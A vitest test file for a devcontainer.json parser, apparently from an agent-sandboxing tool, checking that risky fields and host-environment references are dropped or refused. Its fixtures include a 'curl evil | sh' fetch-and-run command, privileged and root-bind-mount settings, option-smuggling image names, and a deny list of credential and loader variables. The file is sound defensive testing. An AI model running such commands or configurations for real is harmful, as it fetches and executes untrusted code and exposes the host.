// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the references of a devcontainer.json look like that
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseDevcontainer } from '../../../src/devcontainer/parse.ts';
import { UserError } from '../../../src/errors.ts';

const parse = (value: unknown) => parseDevcontainer(JSON.stringify(value), '/p/.devcontainer.json');
const troubleOf = (content: string): UserError => {
  try {
    parseDevcontainer(content, '/p/.devcontainer.json');
  } catch (error) {
    if (error instanceof UserError) return error;
    throw error;
  }
  throw new Error('nothing was thrown');
};

describe('a devcontainer.json', () => {
  it('may have comments, trailing commas and a byte order mark', () => {
    const text = '\uFEFF// of the team\n{ /* one */ "image": "node:22", "remoteEnv": { "URL": "http://x//y", }, }';
    expect(parseDevcontainer(text, 'f')).toEqual({
      image: 'node:22',
      build: undefined,
      containerEnv: {},
      remoteEnv: { URL: 'http://x//y' },
      ignored: [],
    });
  });

  it('says how an image is built', () => {
    const build = { dockerfile: 'Dockerfile', context: '..', args: { A: 'b' }, target: 'dev' };
    expect(parse({ build }).build).toEqual(build);
    expect(parse({ build: { dockerfile: 'Dockerfile' } }).build).toEqual({
      dockerfile: 'Dockerfile',
      context: '.',
      args: {},
      target: undefined,
    });
  });

  it('has no effect beyond that, and what has none is named', () => {
    const { ignored } = parse({
      name: 'app',
      customizations: { vscode: {} },
      build: {
        dockerfile: 'D',
        options: ['--privileged'],
        args: { TOKEN: '${localEnv:TOKEN}', B: '${containerEnv:X}' },
      },
      initializeCommand: 'curl evil | sh',
      onCreateCommand: ['x'],
      mounts: ['source=/,target=/host,type=bind'],
      runArgs: ['--privileged'],
      features: { 'ghcr.io/x/y:1': {} },
      containerUser: 'root',
      remoteEnv: { A: '${localEnv:HOME}', GONE: null },
    });
    expect(ignored).toEqual([
      'initializeCommand',
      'onCreateCommand',
      'mounts',
      'runArgs',
      'features',
      'containerUser',
      'build.options',
      'build.args.TOKEN',
      'build.args.B',
      'remoteEnv.A',
      'remoteEnv.GONE',
    ]);
  });

  it.each(['ANTHROPIC_BASE_URL', 'GITHUB_TOKEN', 'https_proxy', 'NODE_OPTIONS', 'LD_PRELOAD', 'HOME', 'AGENTBOX_X'])(
    'does not say what %s is',
    (name) => {
      const { containerEnv, ignored } = parse({ image: 'x', containerEnv: { [name]: 'v', MINE: 'w' } });
      expect({ containerEnv, ignored }).toEqual({ containerEnv: { MINE: 'w' }, ignored: [`containerEnv.${name}`] });
    },
  );

  it.each([
    ['[]', 'the whole: Invalid input'],
    ['{}', 'it has neither image nor build'],
    ['{"dockerComposeFile":"x.yml"}', 'it has neither image nor build'],
    ['{"image":"a","build":{"dockerfile":"b"}}', 'it has both image and build'],
    ['{"image":"--privileged"}', 'image: is no name of an image'],
    ['{"image":"${localEnv:IMAGE}"}', 'image: is no name of an image'],
    ['{"build":{"dockerfile":"D","target":"-x"}}', 'build.target: is no name of a stage'],
    ['{"build":{"dockerfile":"D\\n"}}', 'build.dockerfile: is no path'],
    ['{"build":{"dockerfile":"D","args":{"A B":"c"}}}', 'build.args.A B: Invalid key'],
    ['{"image":"a","containerEnv":{"A":"\\u0000"}}', 'containerEnv.A: holds a NUL byte'],
    ['{"image":"a","containerEnv":{"A":1}}', 'containerEnv.A: Invalid input'],
  ])('%s is refused with its reason', (content, why) => {
    expect(troubleOf(content)).toMatchObject({ trouble: 'project', why: expect.stringContaining(why) });
  });

  it('cannot write to the terminal through a message', () => {
    for (const content of [
      '{"\u001b[2J',
      '{"image":"a","containerEnv":{"\u001b[2J":1}}',
      '{"image":"a","remoteEnv":{"\u202e":1}}',
    ]) {
      const { message, why } = troubleOf(content);
      expect(`${message}${why}`).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    }
  });

  it('whatever it holds, is read or refused, and nothing of this machine comes into it', () => {
    const json = fc.json();
    const loose = fc.record(
      {
        image: fc.oneof(fc.constantFrom('node:22', 'a/b@sha256:00', '$(x)', '-v'), fc.string()),
        build: fc.oneof(fc.record({ dockerfile: fc.string(), context: fc.string(), args: fc.object() }), fc.anything()),
        containerEnv: fc.dictionary(
          fc.constantFrom('A', 'PATH', 'LD_PRELOAD', '1x'),
          fc.oneof(
            fc.string(),
            fc.constantFrom('${localEnv:HOME}', '${containerEnv:PATH}:x', '${a}${containerEnv:B:${localEnv:C}}'),
          ),
        ),
        remoteEnv: fc.dictionary(fc.string(), fc.anything()),
        mounts: fc.anything(),
      },
      { requiredKeys: [] },
    );
    const text = fc.oneof(
      json,
      fc.string(),
      loose.map((value) => JSON.stringify(value) ?? ''),
    );
    fc.assert(
      fc.property(text, (content) => {
        try {
          const { image, build, containerEnv, remoteEnv } = parseDevcontainer(content, 'f');
          expect((image === undefined) !== (build === undefined)).toBe(true);
          if (image !== undefined) expect(image).toMatch(/^[A-Za-z0-9]/);
          for (const [name, value] of [...Object.entries(containerEnv), ...Object.entries(remoteEnv)]) {
            expect(name).not.toBe('LD_PRELOAD');
            expect(value).not.toContain('localEnv:');
          }
        } catch (error) {
          if (!(error instanceof UserError)) throw error;
        }
      }),
      { numRuns: 2000 },
    );
  });
});
